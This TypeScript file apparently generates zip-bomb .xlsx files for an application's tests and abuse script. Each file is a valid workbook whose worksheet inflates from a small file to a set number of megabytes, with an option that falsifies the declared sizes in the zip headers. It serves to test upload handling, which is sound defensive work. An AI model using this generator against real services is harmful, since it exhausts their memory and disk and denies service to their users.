/**
 * A zip-bomb .xlsx for the abuse script and the tests (issue 14 item 5): a valid workbook whose
 * first worksheet inflates to `sheetMb` MB of rows from a small file, placed before the workbook
 * and shared strings in the zip (what made exceljs spool it to a temporary file). With
 * `lieAboutSize` the central directory and local header declare the sheet tiny.
 */

import { once } from 'node:events';
import { createWriteStream } from 'node:fs';
import { crc32, createDeflateRaw } from 'node:zlib';

interface Part {
  name: string;
  data: Buffer; // compressed (raw deflate)
  crc: number;
  size: number; // uncompressed
}

async function deflate(chunks: Iterable<Buffer>): Promise<{ data: Buffer; crc: number; size: number }> {
  const z = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  z.on('data', (d: Buffer) => out.push(d));
  let crc = 0;
  let size = 0;
  for (const c of chunks) {
    crc = crc32(c, crc);
    size += c.length;
    if (!z.write(c)) await once(z, 'drain');
  }
  z.end();
  await once(z, 'end');
  return { data: Buffer.concat(out), crc, size };
}

function* sheetXml(sheetMb: number): Generator<Buffer> {
  yield Buffer.from(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org' +
      '/spreadsheetml/2006/main"><sheetData>',
  );
  const row = Buffer.from(
    (
      '<row r="2"><c r="A2" t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</t></is></c><c r="B2" ' +
      't="inlineStr"><is><t>BBBBBBBBBBBBBBBBBBBBBBBB</t></is></c></row>'
    ).repeat(512),
  );
  const n = Math.ceil((sheetMb * 1048576) / row.length);
  for (let i = 0; i < n; i++) yield row;
  yield Buffer.from('</sheetData></worksheet>');
}

const small = (s: string) => [Buffer.from(s)];

export async function writeZipBomb(
  path: string,
  o: { sheetMb: number; lieAboutSize?: boolean },
): Promise<{ fileBytes: number; inflatedBytes: number }> {
  const parts: Part[] = [];
  const add = async (name: string, chunks: Iterable<Buffer>) => parts.push({ name, ...(await deflate(chunks)) });
  await add(
    '[Content_Types].xml',
    small(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/conte' +
        'nt-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xm' +
        'l"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ' +
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override ' +
        'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsh' +
        'eetml.worksheet+xml"/></Types>',
    ),
  );
  await add(
    '_rels/.rels',
    small(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/20' +
        '06/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/re' +
        'lationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    ),
  );
  // The bomb first: before the workbook and its relations.
  await add('xl/worksheets/sheet1.xml', sheetXml(o.sheetMb));
  await add(
    'xl/workbook.xml',
    small(
      '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2' +
        '006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet ' +
        'name="工单" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
  );
  await add(
    'xl/_rels/workbook.xml.rels',
    small(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/20' +
        '06/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/re' +
        'lationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
  );
  const out = createWriteStream(path);
  const central: Buffer[] = [];
  let offset = 0;
  const write = async (b: Buffer) => {
    offset += b.length;
    if (!out.write(b)) await once(out, 'drain');
  };
  for (const p of parts) {
    const name = Buffer.from(p.name);
    const declared = o.lieAboutSize && p.name.includes('worksheets') ? 1000 : p.size;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(p.crc >>> 0, 14);
    local.writeUInt32LE(p.data.length, 18);
    local.writeUInt32LE(declared, 22);
    local.writeUInt16LE(name.length, 26);
    const cd = Buffer.alloc(46);
    cd.writeUInt32LE(0x02014b50, 0);
    cd.writeUInt16LE(20, 4);
    cd.writeUInt16LE(20, 6);
    cd.writeUInt16LE(0x0800, 8);
    cd.writeUInt16LE(8, 10);
    cd.writeUInt32LE(p.crc >>> 0, 16);
    cd.writeUInt32LE(p.data.length, 20);
    cd.writeUInt32LE(declared, 24);
    cd.writeUInt16LE(name.length, 28);
    cd.writeUInt32LE(offset, 42);
    central.push(cd, name);
    await write(local);
    await write(name);
    await write(p.data);
  }
  const cdStart = offset;
  const cdBuf = Buffer.concat(central);
  await write(cdBuf);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(cdBuf.length, 12);
  end.writeUInt32LE(cdStart, 16);
  await write(end);
  out.end();
  await once(out, 'finish');
  return { fileBytes: offset, inflatedBytes: parts.reduce((n, p) => n + p.size, 0) };
}
